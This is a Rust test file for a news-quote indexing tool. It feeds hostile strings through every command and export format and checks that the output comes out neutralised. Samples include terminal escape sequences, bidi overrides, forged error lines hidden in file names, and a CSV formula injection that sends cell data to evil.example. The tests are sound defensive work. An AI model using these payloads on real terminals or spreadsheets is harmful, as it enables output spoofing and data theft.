//! Text of strangers through the whole program: an archive whose titles, bylines, outlets, addresses, texts, file names
//! and members are the attacks of `tests/cases/hostile.tsv`, and every command that shows any of it.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::collections::HashSet;

use serde_json::{Value, json};

use crate::attacks;
use crate::env::{Env, Run};

/// Characters that steer a terminal, or are there without being seen. The program's own table is not asked.
fn steers(character: char) -> bool {
    character.is_control()
        || matches!(u32::from(character),
            0xad | 0x61c | 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xfe00..=0xfe0f | 0xfeff
            | 0xfff9..=0xfffb | 0xe0000..=0xe01ef)
}

/// Nothing but line ends of the program steers; `but` are further characters that it writes by itself.
#[track_caller]
fn assert_plain(run: &Run, but: &[char]) {
    for (name, stream) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        for line in stream.split('\n') {
            let found = line.find(|character: char| steers(character) && !but.contains(&character));
            assert!(found.is_none(), "{name} has at {found:?} of {line:?}\n{}", run.shown().escape_debug());
        }
    }
    assert!(!run.stderr.lines().any(|line| line.starts_with("error: index lost")), "{}", run.stderr);
    assert!(!run.stderr.lines().any(|line| line.starts_with("warning: run ")), "{}", run.stderr);
}

/// The archive: a dump with a record for each attack, which stands in every field and in the text, and a text for each,
/// with the attack in its name, its header and its quote.
fn archive() -> Env {
    let env = Env::new();
    let mut dump = String::new();
    for (number, (_, attack)) in attacks::of_table().into_iter().enumerate() {
        let day = format!("2017-{:02}-{:02}", number % 12 + 1, number / 12 % 28 + 1);
        let words = format!("“We keep the harbour {attack} open for ever and ever,” said Ann Example.");
        dump += &json!({
            "id": format!("{attack}{number}"), "headline": attack, "byline": attack, "source": attack, "url": attack,
            "published": day, "body": format!("The harbour {attack} stays.\n\n{words}\n\n{attack}\n\nHarold Testby {attack} said the pier was safe."),
        })
        .to_string();
        dump.push('\n');
        let text = format!(
            "{attack}\nPosted On: {day}\nBy {attack}\nSource: {attack}\nURL: {attack}\n\nThe pier {attack} stays.\n\n\
             “We keep the pier {attack} open for ever and ever,” said Ann Example.\n\n{attack}\n"
        );
        // What no file can be called.
        let name = attack.replace(['/', '\0'], "_");
        let name: String = name.chars().take(60).collect();
        env.write(&format!("archive/{number:03}{name}.txt"), text);
    }
    env.write("archive/dump.ndjson", dump);
    // Not to be read, and told with its name.
    env.write("archive/a\u{1b}]0;owned\u{7}\nerror: index lost\u{202e}.ndjson", "{\"headline\": \n\nrubbish");
    env.write("archive/b\u{1b}[2J\r\nerror: index lost.txt", "");
    env
}

fn indexed() -> Env {
    let env = archive();
    let run = env.run(&["index", "--index", "ix", "archive"]).expect_status(0);
    assert_plain(&run, &[]);
    assert!(run.stderr.contains("owned"), "{}", run.shown());
    env
}

fn records(env: &Env) -> Vec<Value> {
    let run = env.run(&["export", "--index", "ix", "--format", "ndjson"]).expect_status(0);
    assert_plain(&run, &[]);
    run.records()
}

/// Braces as BibTeX counts them: a backslash makes no difference. Gives the depth behind the text.
fn depth(text: &str) -> i64 {
    text.chars().fold(0, |depth, letter| {
        let depth = depth + i64::from(letter == '{') - i64::from(letter == '}');
        assert!(depth >= 0, "a brace too many: {text}");
        depth
    })
}

fn check_bibtex(run: &Run, entries: usize) {
    assert_plain(run, &[]);
    assert_eq!(depth(&run.stdout), 0);
    let mut begun = 0;
    for line in run.stdout.lines() {
        match line {
            "" | "}" => {}
            _ if line.starts_with("@article{") => {
                let key = line["@article{".len()..].strip_suffix(',').unwrap();
                assert!(
                    !key.is_empty() && key.chars().all(|sign| sign.is_ascii_alphanumeric() || sign == '-'),
                    "{line}"
                );
                begun += 1;
            }
            _ => {
                let (name, value) = line.split_once(" = ").unwrap();
                assert!(name.starts_with("  ") && name.trim().chars().all(char::is_alphabetic), "{line}");
                assert!(value.ends_with(','), "{line}");
                assert_eq!(depth(value), 0, "{line}");
            }
        }
    }
    assert_eq!(begun, entries, "{}", run.shown());
}

fn check_ris(run: &Run, entries: usize) {
    assert_plain(run, &['\r']);
    let lines: Vec<&str> = run.stdout.split("\r\n").collect();
    for line in &lines {
        assert!(!line.contains('\r'), "{line:?}");
        let is_tag = line.get(2..6) == Some("  - ");
        assert!(line.is_empty() || is_tag, "{line:?}");
    }
    assert_eq!(lines.iter().filter(|line| line.starts_with("TY  - ")).count(), entries);
    assert_eq!(lines.iter().filter(|line| line.starts_with("ER  - ")).count(), entries);
    let addresses: Vec<&&str> = lines.iter().filter(|line| line.starts_with("UR  - ")).collect();
    assert!(addresses.iter().all(|line| is_of_web(&line[6..])), "{addresses:?}");
    assert!(!addresses.is_empty());
}

fn check_csl(run: &Run, entries: usize) {
    assert_plain(run, &[]);
    let items: Vec<Value> = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(items.len(), entries);
    for item in &items {
        assert!(item["URL"].as_str().is_none_or(is_of_web), "{item}");
        assert!(!item["note"].as_str().unwrap().contains("{:"), "{item}");
    }
}

fn is_of_web(address: &str) -> bool {
    let address = address.to_ascii_lowercase();
    ["http://", "https://", "mailto:"].iter().any(|scheme| address.starts_with(scheme))
}

/// The rows of a table in which no cell runs.
fn check_csv(run: &Run) -> Vec<csv::StringRecord> {
    assert_plain(run, &[]);
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.unwrap()).collect();
    for piece in rows.iter().flatten().flat_map(|cell| cell.split([';', '\n'])) {
        let begins = piece.trim_start_matches([' ', '\u{a0}', '"']);
        let runs = begins.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && piece.parse::<f64>().is_err();
        assert!(!runs, "{piece:?} is a formula");
    }
    rows
}

fn check_markdown(run: &Run, entries: usize) {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    assert_plain(run, &[]);
    let (mut items, mut links) = (0, 0);
    for event in Parser::new_ext(&run.stdout, Options::all()) {
        match event {
            Event::Start(Tag::Item) => items += 1,
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                links += 1;
                assert!(is_of_web(&dest_url), "{dest_url}");
            }
            Event::Start(Tag::List(_) | Tag::Paragraph | Tag::Strong | Tag::Emphasis) => {}
            Event::Start(other) => panic!("no text of ours has {other:?}"),
            Event::Html(html) | Event::InlineHtml(html) => panic!("HTML: {html}"),
            _ => {}
        }
    }
    assert_eq!(items, entries, "{}", run.shown());
    assert!(links > 0);
}

#[test]
fn what_is_exported_is_harmless_in_every_format() {
    let env = indexed();
    let records = records(&env);
    assert!(records.len() > 2 * attacks::of_table().len(), "{} records", records.len());
    // JSON holds the exact text.
    let held =
        |record: &Value| ["quote", "context"].map(|field| record[field].as_str().unwrap_or_default().to_string());
    let held: Vec<String> = records.iter().flat_map(held).collect();
    // What has several lines is several paragraphs to the reader of articles; of HTML its words are read.
    for (_, attack) in attacks::of_table().into_iter().filter(|(_, attack)| !attack.contains(['\n', '\r', '<', '&'])) {
        assert!(held.iter().any(|text| text.contains(attack.trim())), "no record holds {attack:?}");
    }
    let titles: HashSet<&str> = records.iter().filter_map(|record| record["article"]["title"].as_str()).collect();
    for attack in ["\u{1b}[31mred\u{1b}[0m", "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "a } b"] {
        assert!(titles.contains(attack), "{titles:?}");
    }
    let export = |format: &str| env.run(&["export", "--index", "ix", "--format", format]).expect_status(0);
    let rows = check_csv(&export("csv"));
    assert_eq!(rows.len(), records.len());
    check_bibtex(&export("bibtex"), records.len());
    check_ris(&export("ris"), records.len());
    check_csl(&export("csl"), records.len());
    check_markdown(&export("markdown"), records.len());
}

#[test]
fn what_is_extracted_is_harmless_in_every_format() {
    let env = archive();
    let extract = |format: &str| env.run(&["extract", "--format", format, "archive"]).expect_status(0);
    let ndjson = extract("ndjson");
    assert_plain(&ndjson, &[]);
    let records = ndjson.records();
    let json = extract("json");
    assert_plain(&json, &[]);
    assert_eq!(serde_json::from_str::<Vec<Value>>(&json.stdout).unwrap(), records);
    assert_plain(&extract("text"), &[]);
    assert_eq!(check_csv(&extract("csv")).len(), records.len());
    check_bibtex(&extract("bibtex"), records.len());
    check_ris(&extract("ris"), records.len());
    check_csl(&extract("csl"), records.len());
}

#[test]
fn what_is_asked_and_counted_is_harmless() {
    let env = indexed();
    let ask = |arguments: &[&str]| {
        let (command, rest) = arguments.split_first().unwrap();
        env.run(&[&[*command, "--index", "ix"], rest].concat()).expect_status(0)
    };
    for arguments in [
        &["search", "--limit", "1000", "--copies", "harbour"][..],
        &["search", "--limit", "1000", "--explain", "harbour"],
        &["search", "--facets", "pier"],
        &["search", "--limit", "1000", "--copies", "--format", "json", "pier"],
        &["search", "--limit", "1000", "--explain", "--format", "ndjson", "pier"],
        &["speakers"],
        &["speakers", "--format", "json"],
        &["outlets", "--limit", "0"],
        &["outlets", "--limit", "0", "--format", "json"],
        &["offices"],
        &["parties"],
        &["timeline", "pier"],
        &["timeline", "--format", "json", "pier"],
        &["compare", "harbour", "pier"],
        &["compare", "harbour", "pier", "--format", "json"],
        &["stats"],
        &["stats", "--format", "json"],
        &["verify"],
    ] {
        assert_plain(&ask(arguments), &[]);
    }
    for arguments in [
        &["search", "--limit", "1000", "--copies", "--format", "csv", "pier"][..],
        &["speakers", "--format", "csv"],
        &["outlets", "--limit", "0", "--format", "csv"],
        &["timeline", "--format", "csv"],
        &["compare", "--format", "csv", "harbour", "-harbour"],
    ] {
        if arguments.contains(&"-harbour") {
            let run = env.run(&["compare", "--index", "ix", "--format", "csv", "--", "harbour", "-harbour"]);
            assert!(check_csv(&run).iter().all(|row| !row[0].starts_with('-')), "{}", run.shown());
            continue;
        }
        check_csv(&ask(arguments));
    }
    let json: Value = serde_json::from_str(&ask(&["search", "--format", "json", "-n", "999", "pier"]).stdout).unwrap();
    assert_eq!(json["version"], 1);
}

#[test]
fn what_is_shown_is_harmless() {
    let env = indexed();
    let records = records(&env);
    let mut shown = HashSet::new();
    let mut texts = HashSet::new();
    for record in records.iter().step_by(7) {
        let id = record["id"].as_str().unwrap();
        if !shown.insert(record["article"]["id"].as_str().unwrap()) {
            continue;
        }
        let show = |format: &str| env.run(&["show", "--index", "ix", "--format", format, id]).expect_status(0);
        let text = show("text");
        assert_plain(&text, &[]);
        texts.insert(text.stdout.clone());
        let json = show("json");
        assert_plain(&json, &[]);
        let json: Value = serde_json::from_str(&json.stdout).unwrap();
        assert!(json.to_string().contains(id));
        let cited = records.iter().filter(|other| other["id"] == *id).count();
        check_bibtex(&show("bibtex"), cited);
        assert_plain(&show("ris"), &['\r']);
        check_csl(&show("csl"), cited);
    }
    assert!(texts.len() > 20);
    let id = records[0]["id"].as_str().unwrap();
    for format in ["text", "json", "csv", "bibtex"] {
        let run = env.run(&["similar", "--index", "ix", "--limit", "100", "--format", format, id]).expect_status(0);
        assert_plain(&run, &[]);
    }
}

/// With colour on, nothing but the program's own emphasis steers.
#[test]
fn colour_lets_nothing_through() {
    let env = indexed();
    let own = ["\u{1b}[0m", "\u{1b}[1m", "\u{1b}[2m", "\u{1b}[4m", "\u{1b}[33m", "\u{1b}[36m"];
    let mut emphasised = 0;
    let mut check = |run: &Run| {
        let mut text = run.stdout.clone();
        for sequence in own {
            emphasised += text.matches(sequence).count();
            // Another character stands for it, so that nothing can grow together around it.
            text = text.replace(sequence, "·");
        }
        let found = text.chars().find(|character| steers(*character) && *character != '\n');
        assert!(found.is_none(), "{found:?}: {text:?}");
        assert!(!text.contains("[31m·"), "a colour of an article's is ended");
    };
    check(&env.run(&["search", "--index", "ix", "--color", "always", "--limit", "1000", "harbour OR pier"]));
    for record in records(&env).iter().step_by(9) {
        let id = record["id"].as_str().unwrap();
        check(&env.run(&["show", "--index", "ix", "--color", "always", id]).expect_status(0));
    }
    assert!(emphasised > 100);
}

#[test]
fn names_in_errors_begin_no_line_and_steer_nothing() {
    let env = archive();
    let evil = "x\u{1b}[2J\u{9b}1m\u{202e}\nerror: index lost\r\u{7}";
    env.write(&format!("{evil}.tsv"), "\u{1b}[31mno line\u{7}\n\u{202e}\n");
    let table = format!("{evil}.tsv");
    env.run(&["index", "--index", "ix", "archive/dump.ndjson"]);
    for (status, arguments) in [
        (2, &["extract", evil][..]),
        (2, &["index", "--index", "other", evil]),
        (2, &["search", "--in", evil, "pier"]),
        (2, &["search", "--index", evil, "pier"]),
        (2, &["stats", "--index", evil]),
        (2, &["show", "--index", "ix", evil]),
        (2, &["similar", "--index", "ix", evil]),
        (2, &["search", "--index", "ix", &table]),
        (2, &["search", "--index", "ix", "--synonyms", evil, "pier"]),
        (2, &["search", "--index", "ix", "--synonyms", &table, "pier"]),
        (2, &["search", "--index", "ix", "--events", evil, "pier"]),
        (2, &["search", "--index", "ix", "--events", &table, "pier"]),
        (2, &["search", "--index", "ix", &format!("party:\"{evil}\"")]),
        (0, &["search", "--index", "ix", "--corrections", evil, "pier"]),
        (0, &["search", "--index", "ix", "--corrections", &table, "pier"]),
        (1, &["correct", "--list", "--corrections", &table]),
        (2, &["correct", "--undo", evil, "--corrections", &table]),
        (1, &["saved", "--questions", &table]),
        (2, &["run", "--questions", &table, evil]),
        (2, &["forget", "--questions", &table, evil]),
        (2, &["save", "--questions", &table, evil, "x"]),
        (2, &["extract", "--map", evil, "archive"]),
        (2, &["extract", "--max-article", evil, "archive"]),
        (2, &["extract", &format!("--{evil}")]),
        (2, &[evil]),
        (1, &["people", evil]),
    ] {
        let run = env.run(arguments).expect_status(status);
        assert_plain(&run, &[]);
        assert!(!run.stderr.is_empty() || status == 0, "{}", run.shown());
        assert!(!run.shown().contains("\nerror: index lost\n"), "{}", run.stderr.escape_debug());
    }
}

#[test]
fn tables_of_others_are_shown_harmless() {
    let env = archive();
    env.run(&["index", "--index", "ix", "archive/dump.ndjson"]).expect_status(0);
    let cell = |attack: &str| attack.replace(['\t', '\n', '\r'], " ");
    let mut corrections = String::new();
    let mut questions = String::new();
    for (number, (_, attack)) in attacks::of_table().iter().enumerate() {
        let attack = cell(attack);
        corrections +=
            &format!("id{attack}\twords {attack}\t2016 {attack}\tAnn {attack}\tParty {attack}\tHarold {attack}\n");
        questions += &format!("q{number}{attack}\tpier {attack}\n");
    }
    env.write("corrections.tsv", corrections);
    env.write("questions.tsv", questions);
    let listed = env.run(&["correct", "--list", "--corrections", "corrections.tsv"]).expect_status(0);
    assert_plain(&listed, &[]);
    assert!(listed.stdout.contains("[31mred"));
    let saved = env.run(&["saved", "--questions", "questions.tsv"]).expect_status(0);
    assert_plain(&saved, &['\t']);
    assert!(saved.stdout.lines().all(|line| line.matches('\t').count() == 1), "{}", saved.shown());
    assert_plain(&env.run(&["run", "--questions", "questions.tsv", "nothing"]).expect_status(2), &[]);
}
